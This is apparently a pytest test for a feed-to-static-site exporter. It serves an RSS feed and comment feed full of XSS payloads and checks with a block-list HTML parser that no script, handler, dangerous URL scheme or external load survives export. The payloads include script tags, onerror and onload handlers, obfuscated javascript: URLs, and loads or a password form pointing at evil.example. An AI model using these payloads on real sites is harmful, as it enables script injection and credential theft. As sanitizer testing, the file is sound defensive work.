"""XSS vectors in a real feed (post and comments), synced and exported: nothing stays live."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
from click.testing import CliRunner

from ownfeed.cli import cli
from tests.httpserver import Reply, TestServer

VECTORS = [
    "<script>alert('s1')</script>",
    '<img src="x" onerror="alert(\'s2\')">',
    "<a href=\"javascript:alert('s3')\">j</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "<a href=\"vbscript:msgbox('s5')\">v</a>",
    "<a href=\"jav&#x09;ascript:alert('s6')\">hidden tab</a>",
    "<a href=\"&#106;avascript:alert('s7')\">entity j</a>",
    "<svg><script>alert('s8')</script></svg>",
    "<svg onload=\"alert('s9')\"></svg>",
    "<style>body{background:url(https://evil.example/s10.png)}</style>",
    '<iframe src="https://evil.example/s11"></iframe>',
    '<form action="https://evil.example/s12"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/s13">',
    '<base href="https://evil.example/s14/">',
    '<img src="/ok.png" srcset="https://evil.example/s15.png 2x">',
    '<div style="background:url(https://evil.example/s16.png)">styled</div>',
    '<img id="s17" name="getElementById"><form name="s17-clobber"></form>',
    '<object data="https://evil.example/s18.swf"></object>',
    '<embed src="https://evil.example/s19.swf">',
    '<link rel="stylesheet" href="https://evil.example/s20.css">',
]
FORBIDDEN_TAGS = {"iframe", "form", "object", "embed", "base", "frame", "applet"}
LOADING_ATTRS = {
    "img": "src",
    "script": "src",
    "link": "href",
    "source": "src",
    "video": "src",
    "audio": "src",
    "input": "src",
}


class LiveMarkup(HTMLParser):
    """Collects what a browser would act on: tags, attributes, style contents."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        own_search_form = tag == "form" and values.get("action") == "search.html"
        if tag in FORBIDDEN_TAGS and not own_search_form:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.problems.append("meta refresh")
        if tag == "script" and values.get("src", "").split("/")[-2:-1] != ["assets"]:
            self.problems.append("inline or foreign script")
        for name, value in values.items():
            squashed = "".join(ch for ch in value if ch > " ").lower()
            if name.startswith("on"):
                self.problems.append(f"handler {name}")
            if name in ("style", "srcset"):
                self.problems.append(f"attribute {name}")
            if name in ("href", "src", "action", "formaction", "data", "xlink:href") and (
                squashed.startswith(("javascript:", "vbscript:", "data:"))
            ):
                self.problems.append(f"{name}={value}")
        loaded = LOADING_ATTRS.get(tag)
        fetched_rels = {"stylesheet", "icon", "preload", "prefetch", "modulepreload", "manifest"}
        if tag == "link" and not fetched_rels & set(values.get("rel", "").lower().split()):
            loaded = None  # canonical, alternate: links, nothing is loaded
        if loaded and values.get(loaded):
            parts = urlsplit(values[loaded])
            if parts.scheme or parts.netloc:
                self.problems.append(f"<{tag}> loads {values[loaded]}")
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style and "url(" in data:
            self.problems.append("style with url()")


def hostile_feed(server: TestServer) -> str:
    body = "".join(VECTORS)
    items = f"""<item><title>Post &lt;script&gt;alert('t')&lt;/script&gt;</title>
<link>{server.url("/post/")}</link><guid>{server.url("/?p=1")}</guid>
<pubDate>Mon, 06 Jan 2025 10:00:00 +0000</pubDate>
<category>&lt;img src=x onerror=alert(1)&gt;</category>
<content:encoded><![CDATA[<p>Hello</p>{body}]]></content:encoded>
<wfw:commentRss>{server.url("/post/feed/")}</wfw:commentRss><slash:comments>1</slash:comments>
</item>"""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:wfw="http://wellformedweb.org/CommentAPI/" xmlns:slash="http://purl.org/rss/1.0/modules/slash/">
<channel><title>Evil</title><link>{server.url("/")}</link>{items}</channel></rss>"""


def comment_feed(server: TestServer) -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>c</title>
<item><title>By: Mallory</title><dc:creator>Mallory</dc:creator>
<link>{server.url("/post/#comment-2")}</link>
<guid>{server.url("/?p=1#comment-2")}</guid><pubDate>Mon, 06 Jan 2025 11:00:00 +0000</pubDate>
<content:encoded><![CDATA[{"".join(VECTORS)}]]></content:encoded></item></channel></rss>"""


def test_xss_vectors_from_a_feed_are_dead_in_the_export(tmp_path: Path, server: TestServer) -> None:
    server.route("/feed/", Reply(hostile_feed(server), content_type="application/rss+xml"))
    server.route("/post/feed/", Reply(comment_feed(server), content_type="application/rss+xml"))
    config = tmp_path / "ownfeed.toml"
    config.write_text(
        f'[export]\nbase_url = "https://us.example/"\n'
        f'[[sources]]\nname = "evil"\ntype = "feed"\nurl = "{server.url("/feed/")}"\n',
        encoding="utf-8",
    )
    runner = CliRunner()
    assert runner.invoke(cli, ["-c", str(config), "sync", "--no-media"]).exit_code == 0
    result = runner.invoke(cli, ["-c", str(config), "export"])
    assert result.exit_code == 0, result.output
    site = tmp_path / "site"
    pages = list(site.rglob("*.html"))
    assert len(pages) > 3
    post_pages = list((site / "posts").glob("*.html"))
    assert any("Mallory" in page.read_text(encoding="utf-8") for page in post_pages)
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "Content-Security-Policy" in text, page
        checker = LiveMarkup()
        checker.feed(text)
        assert checker.problems == [], f"{page.relative_to(site)}: {checker.problems}"
    entries = json.loads((site / "feed.json").read_text(encoding="utf-8"))["items"]
    atom = feedparser.parse((site / "feed.xml").read_bytes(), sanitize_html=False)
    contents = [item.get("content_html", "") for item in entries]
    contents += [entry.content[0].value for entry in atom.entries]
    assert contents and all("Hello" in content for content in contents)
    for content in contents:
        checker = LiveMarkup()
        checker.feed(content)
        assert checker.problems == [], checker.problems
